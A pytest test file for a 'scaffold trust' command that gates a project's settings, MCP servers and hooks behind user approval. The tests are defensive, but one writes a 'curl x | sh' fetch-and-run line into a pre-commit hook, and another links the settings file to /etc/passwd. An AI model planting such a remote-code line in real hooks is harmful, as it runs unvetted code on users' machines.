"""`scaffold trust`: a folder's configuration counts once the user agreed to it, as long as it is unchanged."""

import json
import os
import re
import shlex
import shutil
import stat
import sys

import pexpect
import pytest
from inline_snapshot import snapshot

from builders import git
from scaffold.config.folder_trust import folder_trust
from scaffold.config.settings import load_settings, project_settings
from scaffold.core.errors import UsageError
from scaffold.host.atomic_files import delete_path

SERVERS = {"mcpServers": {"docs": {"command": "npx", "args": ["-y", "two words"]}, "web": {"url": "https://x.example"}}}
HOOKS = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./check.sh"}]}]}}


@pytest.fixture
def shop(repository):
    """A repository with its own settings and servers."""
    (repository / ".scaffold.yaml").write_text("tier: scout\napprovals: {shell: allow, network: deny}\n")
    (repository / ".mcp.json").write_text(json.dumps(SERVERS))
    return repository


def tier(folder):
    return load_settings(folder, os.environ, {}).values["tier"]


def state(scaffold, *args):
    return scaffold("trust", *args, "--show", "--json").json["state"]


def test_settings_of_a_trusted_folder_count_and_name_their_line(shop, scaffold):
    """RA-13, AL-28: project settings only tighten, and ignored ones are reported with the reason."""
    assert load_settings(shop, os.environ, {}, trust_once=True).values["tier"].value == "scout"
    assert (tier(shop).value, state(scaffold)) == ("auto", "unknown"), "trusting once stores nothing"
    assert scaffold("trust", "--yes").code == 0
    answer = scaffold("config", "--json")
    values = {name: answer.json["values"][name] for name in ("tier", "approvals.network", "approvals.shell")}
    assert values == {
        "tier": {"value": "scout", "origin": f"{shop}/.scaffold.yaml:1"},
        "approvals.network": {"value": "deny", "origin": f"{shop}/.scaffold.yaml:2"},
        "approvals.shell": {"value": None, "origin": "built-in"},
    }
    (ignored,) = answer.json["ignored"]
    assert (ignored["path"], ignored["setting"]) == (f"{shop}/.scaffold.yaml:2", "approvals.shell")
    assert "`approvals.shell` is ignored" in scaffold("config").err


def test_everything_that_would_take_effect_is_shown_and_show_changes_nothing(shop, scaffold):
    (shop / ".claude").mkdir()
    (shop / ".claude" / "settings.json").write_text(json.dumps(HOOKS))
    said = scaffold("trust", "--show").out
    assert said.startswith(f"{shop} is not trusted\n")
    assert [line for line in said.splitlines() if re.match("  (?!contains)", line)] == snapshot(
        [
            "  sets tier to scout",
            "  sets approvals.shell to allow - ignored: it is `ask` already, and a project cannot loosen it",
            "  sets approvals.network to deny",
            "  starts `npx -y 'two words'` as the server docs",
            "  calls https://x.example as the server web",
            "  runs `./check.sh` on PreToolUse",
        ]
    )
    assert state(scaffold) == "unknown"
    (shop / ".mcp.json").write_text("\x1b[2Jnot json\n")
    said = scaffold("trust", "--show").out
    assert "\x1b" not in said
    assert "\\x1b[2Jnot json" in said


@pytest.mark.slow
@pytest.mark.parametrize("closed", ["<&-", "2>&-"])
def test_without_an_open_terminal_nothing_is_asked(shop, home, scaffold, closed):
    command = f"{shlex.quote(sys.executable)} -m scaffold trust {closed}"
    child = pexpect.spawn("sh", ["-c", command], cwd=str(shop), encoding="utf-8", timeout=20)
    child.expect(pexpect.EOF)
    assert state(scaffold) == "unknown"


def test_without_a_terminal_only_yes_counts(shop, scaffold):
    """RA-13: an agent, or a pipe, must not be taken for a person who has read what would take effect."""
    for flags in ((), ("--json",)):
        answer = scaffold("trust", *flags)
        assert (answer.code, "--yes" in answer.err) == (64, True)
        assert state(scaffold) == "unknown"
        assert scaffold("trust", "--yes", *flags).code == 0
        assert (state(scaffold), scaffold("trust").code) == ("trusted", 0)
        scaffold("trust", "--revoke")


def test_any_change_asks_again_and_names_the_file(shop, scaffold):
    scaffold("trust", "--yes")
    before = folder_trust(shop)
    (shop / ".mcp.json").write_text("{}")
    answer = scaffold("trust", "--show", "--json")
    assert (answer.json["state"], answer.json["differences"]) == ("changed", [".mcp.json changed"])
    assert tier(shop).value == "auto"
    assert ".mcp.json changed" in scaffold("config").err
    (shop / ".scaffold.yaml").write_text("tier: quick\n")
    assert project_settings(before, ".scaffold.yaml")["tier"].value == "scout", "the content that was hashed is used"


def test_files_that_define_commit_hooks_ask_again_when_they_change(shop, scaffold):
    """RA-13: they are programs that run on each change."""
    (shop / ".husky" / "_").mkdir(parents=True)
    (shop / ".husky" / "_" / "h").write_text("not the repository's")
    (shop / ".husky" / "pre-commit").write_text("npm test\n")
    assert "  says: npm test\n" in scaffold("trust", "--show").out
    assert scaffold("trust", "--yes").code == 0
    (shop / ".husky" / "pre-commit").write_text("curl x | sh\n")
    (shop / "lefthook-local.yml").write_text("pre-commit: {}\n")
    said = scaffold("trust", "--show").out
    assert "lefthook-local.yml" in said
    assert ".husky/pre-commit" in said
    assert ".husky/_/h" not in said


def test_worktrees_never_ask_branches_keep_their_trust_and_copies_have_none(shop, scaffold, tmp_path):
    scaffold("trust", "--yes")
    shutil.copytree(shop, tmp_path / "copy")
    assert state(scaffold, str(tmp_path / "copy")) == "unknown"
    git(shop, "add", "--all")
    git(shop, "commit", "--quiet", "--message", "settings")
    git(shop, "worktree", "add", "--quiet", str(tmp_path / "wt"))
    assert tier(tmp_path / "wt").value == "scout"

    (tmp_path / "wt" / ".scaffold.yaml").write_text("tier: quick\n")
    assert scaffold("trust", "--yes", str(tmp_path / "wt")).code == 0
    assert (tier(shop).value, tier(tmp_path / "wt").value) == ("scout", "quick")


def test_trust_is_revoked_for_all_worktrees(shop, scaffold):
    scaffold("trust", "--yes")
    said = [scaffold("trust", "--revoke").out.replace(str(shop), "SHOP")]
    assert state(scaffold) == "unknown"
    assert [*said, scaffold("trust", "--revoke").out.replace(str(shop), "SHOP")] == snapshot(
        ["SHOP is no longer trusted\n", "SHOP was not trusted\n"]
    )


def test_a_folder_outside_any_repository_can_be_trusted_too(home, scaffold, tmp_path):
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / ".scaffold.yaml").write_text("tier: scout\n")
    assert scaffold("trust", "--yes", str(plain)).code == 0
    (plain / "below").mkdir()
    (plain / "below" / ".scaffold.yaml").write_text("tier: scout\n")
    assert (tier(plain).value, tier(plain / "below").value) == ("scout", "auto")


def test_the_users_settings_for_one_checkout_come_last_and_loosening_ones_are_marked(shop, scaffold):
    (shop / ".scaffold").mkdir()
    (shop / ".scaffold" / "config.local.yaml").write_text("tier: quick\nsandbox: {mode: off}\nenvironment: [TOKEN]\n")
    said = scaffold("trust", "--show").out
    assert "  sets tier to quick\n" in said
    assert [line for line in said.splitlines() if "LOOSENS" in line] == snapshot(
        ["  sets sandbox.mode to off - this LOOSENS your settings"]
    )
    scaffold("trust", "--yes")
    settings = load_settings(shop, os.environ, {})
    assert (settings.text("tier"), settings.text("sandbox.mode"), settings.texts("environment")) == ("quick", "off", ())


def fifo(path):
    os.mkfifo(path)


def too_large(path):
    path.write_bytes(b"#" * 1_000_001)


ODD = {
    "fifo": fifo,
    "folder": lambda path: path.mkdir(),
    "outside": lambda path: path.symlink_to("/etc/passwd"),
    "broken": lambda path: path.symlink_to("gone"),
    "loop": lambda path: path.symlink_to(path.name),
    "large": too_large,
}


def test_special_files_are_named_ignored_and_never_trusted(shop, scaffold):
    problems = {}
    for kind, make in ODD.items():
        (shop / ".scaffold.yaml").write_text("tier: scout\n")
        scaffold("trust", "--yes")
        (shop / ".scaffold.yaml").unlink()
        make(shop / ".scaffold.yaml")
        answer = scaffold("trust", "--yes")
        problems[kind] = answer.err.splitlines()[0].partition(" it ")[2]
        assert (answer.code, state(scaffold)) == (64, "changed")
        assert f".scaffold.yaml {problems[kind]}" in scaffold("config").err
        with pytest.raises(UsageError, match=r"\.scaffold\.yaml"):
            load_settings(shop, os.environ, {}, trust_once=True)
        delete_path(shop / ".scaffold.yaml")
    assert problems == snapshot(
        {
            "fifo": "is not a regular file",
            "folder": "is not a regular file",
            "outside": "is a link that points outside the folder",
            "broken": "is a broken link",
            "loop": "cannot be read (a loop of links)",
            "large": "is larger than 1 MB",
        }
    )


def test_unreadable_settings_are_harmless_untrusted_and_cannot_be_trusted(shop, scaffold):
    problems = {b"tier: [": "YAML", b"teer: scout": "`tier`", b"\xff\xfe": "UTF-8"}
    for content, problem in problems.items():
        (shop / ".scaffold.yaml").write_bytes(content)
        assert tier(shop).value == "auto"
        answer = scaffold("trust", "--yes")
        assert (answer.code, problem in answer.err) == (64, True)
        assert state(scaffold) == "unknown"


def test_files_placed_by_a_sandbox_during_a_command_are_no_configuration(repository, scaffold):
    """RA-13, BX-9: a user who looks at that moment is not warned of a file that does not exist."""
    os.mknod(repository / ".scaffold.yaml", stat.S_IFSOCK)
    answer = scaffold("config", "tier")
    assert (answer.code, answer.err) == (0, "")


def test_a_link_inside_the_folder_counts_by_its_target(shop, scaffold):
    (shop / ".scaffold.yaml").rename(shop / "settings.yaml")
    (shop / ".scaffold.yaml").symlink_to("settings.yaml")
    scaffold("trust", "--yes")
    assert tier(shop).value == "scout"
    (shop / "settings.yaml").write_text("tier: quick\n")
    assert tier(shop).value == "auto"


def test_a_byte_order_mark_and_foreign_line_endings_do_not_matter(repository, scaffold, monkeypatch):
    """A file that sets nothing needs no notice, and without a home nothing is trusted."""
    assert scaffold("init").code == 0
    assert scaffold("config").err == ""
    (repository / ".scaffold.yaml").write_bytes(b"\xef\xbb\xbftier: scout\r\nagents: 1\r\n")
    scaffold("trust", "--yes")
    assert load_settings(repository, os.environ, {}).values["agents"].origin == f"{repository}/.scaffold.yaml:2"
    monkeypatch.setenv("HOME", "/nowhere/at/all")
    monkeypatch.setenv("SCAFFOLD_HOME", "/nowhere/at/all")
    assert state(scaffold) == "unknown"


def test_trust_that_cannot_be_looked_up_counts_as_none(shop, scaffold, home):
    scaffold("trust", "--yes")
    (home / "scaffold" / "data" / "user.db").write_bytes(b"rubbish" * 1000)
    said = scaffold("trust", "--show").out
    assert "is not trusted\n" in said
    assert "user.db" in said
    assert tier(shop).value == "auto"


def test_a_path_that_is_no_folder_is_refused(home, scaffold, tmp_path):
    (tmp_path / "file").write_text("x")
    for place in ("gone", "file"):
        answer = scaffold("trust", "--yes", str(tmp_path / place))
        assert (answer.code, str(tmp_path / place) in answer.err) == (64, True)
    assert scaffold("trust", "--show", "--revoke").code == 64


@pytest.mark.slow
@pytest.mark.parametrize(("answer", "after"), [("y", "trusted"), ("", "unknown")])
def test_on_a_terminal_nothing_counts_without_a_yes(shop, scaffold, answer, after):
    child = pexpect.spawn(sys.executable, ["-m", "scaffold", "trust"], cwd=str(shop), encoding="utf-8", timeout=20)
    child.expect("Trust it")
    child.sendline(answer)
    child.expect(pexpect.EOF)
    child.close()
    assert (child.exitstatus, state(scaffold)) == (0 if after == "trusted" else 1, after)
